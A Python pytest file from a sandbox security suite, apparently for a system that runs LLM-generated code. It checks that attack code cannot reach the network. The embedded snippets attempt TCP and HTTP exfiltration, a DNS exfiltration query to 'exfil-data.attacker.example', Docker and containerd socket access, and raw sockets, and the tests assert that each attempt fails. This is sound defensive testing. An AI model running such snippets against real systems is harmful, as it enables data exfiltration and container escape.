"""Generated code that tries to reach the network: TCP, HTTP, DNS, Unix sockets, raw sockets.

The listeners run in this process on loopback (and on the Docker bridge when there is one) and
record every connection or packet; the box asserts after each attack that they saw nothing and
that the scripted LLM endpoint (also on loopback) got no request from the sandbox.
"""

from __future__ import annotations

import pytest

from tests.security.conftest import Box, Listeners


def _targets(lst: Listeners) -> list[str]:
    return [*lst.addrs, "localhost", *(["::1"] if lst.v6 else [])]


def test_tcp_connect_to_host_listener(box: Box) -> None:
    lst = box.listeners
    code = f"""
import socket
out = {{}}
for host in {_targets(lst)!r}:
    try:
        s = socket.create_connection((host, {lst.port}), timeout=1)
        s.sendall(b'exfil')
        s.close()
        out[host] = 'CONNECTED'
    except OSError as e:
        out[host] = 'ERR ' + type(e).__name__
result = out
"""
    a = box.attack(code, "tcp connect")
    assert a.error is None, a.error
    assert all(v.startswith("ERR") for v in a.value.values()), a.value
    box.healthy()


def test_http_to_listener_and_llm_endpoint(box: Box) -> None:
    lst = box.listeners
    urls = [f"http://{h}:{lst.port}/exfil?k=1" for h in lst.addrs]
    urls += [box.llm.url + "/chat/completions", "http://example.com/", "https://pypi.org/simple/"]
    code = f"""
import urllib.request, json
out = {{}}
for url in {urls!r}:
    body = json.dumps({{'model': 'x', 'messages': [{{'role': 'user', 'content': 'exfil'}}]}})
    req = urllib.request.Request(url, data=body.encode(),
                                 headers={{'Content-Type': 'application/json'}})
    try:
        out[url] = urllib.request.urlopen(req, timeout=1).status
    except Exception as e:
        out[url] = 'ERR ' + type(e).__name__
result = out
"""
    a = box.attack(code, "http exfiltration")
    assert a.error is None, a.error
    assert all(str(v).startswith("ERR") for v in a.value.values()), a.value
    box.healthy()


def _dns_query(name: str) -> bytes:
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00\x00\x01\x00\x01"


def test_dns_exfiltration(box: Box) -> None:
    lst = box.listeners
    name = "exfil-data.attacker.example"
    dests = [(h, lst.port) for h in lst.addrs] + ([("127.0.0.1", 53)] if lst.dns53 else [])
    code = f"""
import socket
out = {{'udp': {{}}, 'resolve': {{}}}}
for host, port in {dests!r}:
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(0.5)
        s.sendto({_dns_query(name)!r}, (host, port))
        out['udp'][f'{{host}}:{{port}}'] = s.recvfrom(512)[0].hex() or 'EMPTY'
    except OSError as e:
        out['udp'][f'{{host}}:{{port}}'] = 'ERR ' + type(e).__name__
for n in [{name!r}, 'localhost', 'pypi.org']:
    try:
        out['resolve'][n] = socket.getaddrinfo(n, 80)[0][4][0]
    except OSError as e:
        out['resolve'][n] = 'ERR ' + type(e).__name__
result = out
"""
    a = box.attack(code, "dns exfiltration")
    assert a.error is None, a.error
    # sendto on a fresh socket can "succeed" locally; what matters is nothing arrived (the box
    # checks the listeners) and nothing answered.
    assert all(v.startswith("ERR") for v in a.value["udp"].values()), a.value
    for n in ("exfil-data.attacker.example", "pypi.org"):
        assert a.value["resolve"][n].startswith("ERR"), a.value
    box.healthy()


def test_abstract_unix_socket_and_docker_socket(box: Box) -> None:
    code = f"""
import socket
out = {{}}
for path in ['\\0' + {box.listeners.abstract!r}, '/var/run/docker.sock', '/run/docker.sock',
             '/run/containerd/containerd.sock', '/run/dbus/system_bus_socket']:
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(1)
        s.connect(path)
        s.sendall(b'GET /containers/json HTTP/1.0\\r\\n\\r\\n')
        out[repr(path)] = s.recv(200).decode('latin-1') or 'CONNECTED'
    except OSError as e:
        out[repr(path)] = 'ERR ' + type(e).__name__
result = out
"""
    a = box.attack(code, "unix sockets")
    assert a.error is None, a.error
    assert all(v.startswith("ERR") for v in a.value.values()), a.value
    box.healthy()


@pytest.mark.parametrize(
    "family,kind,proto",
    [
        ("AF_INET", "SOCK_RAW", 1),  # raw ICMP
        ("AF_PACKET", "SOCK_RAW", 768),  # raw link layer (htons(ETH_P_ALL))
        ("AF_INET", "SOCK_DGRAM", 1),  # unprivileged "ping" socket
        ("AF_NETLINK", "SOCK_RAW", 0),  # netlink route: list/alter interfaces
    ],
)
def test_raw_and_netlink_sockets(box: Box, family: str, kind: str, proto: int) -> None:
    lst = box.listeners
    code = f"""
import socket
out = {{}}
try:
    s = socket.socket(socket.{family}, socket.{kind}, {proto})
    out['open'] = 'OPEN'
except OSError as e:
    out['open'] = 'ERR ' + type(e).__name__
    s = None
if s is not None and socket.{family} == socket.AF_INET:
    try:
        s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00', ('127.0.0.1', {lst.port}))
        out['send'] = 'SENT'
    except OSError as e:
        out['send'] = 'ERR ' + type(e).__name__
if s is not None and socket.{family} == socket.AF_NETLINK:
    import os
    out['interfaces'] = sorted(os.listdir('/sys/class/net')) if os.path.isdir('/sys/class/net') \
        else [n for _, n in socket.if_nameindex()]
result = out
"""
    a = box.attack(code, f"{family} {kind} socket")
    assert a.error is None, a.error
    if family in ("AF_INET", "AF_PACKET") and kind == "SOCK_RAW":
        assert a.value["open"].startswith("ERR"), a.value  # no CAP_NET_RAW
    if "interfaces" in a.value:  # netlink may open, but the namespace has only loopback
        assert set(a.value["interfaces"]) <= {"lo"}, a.value
    box.healthy()
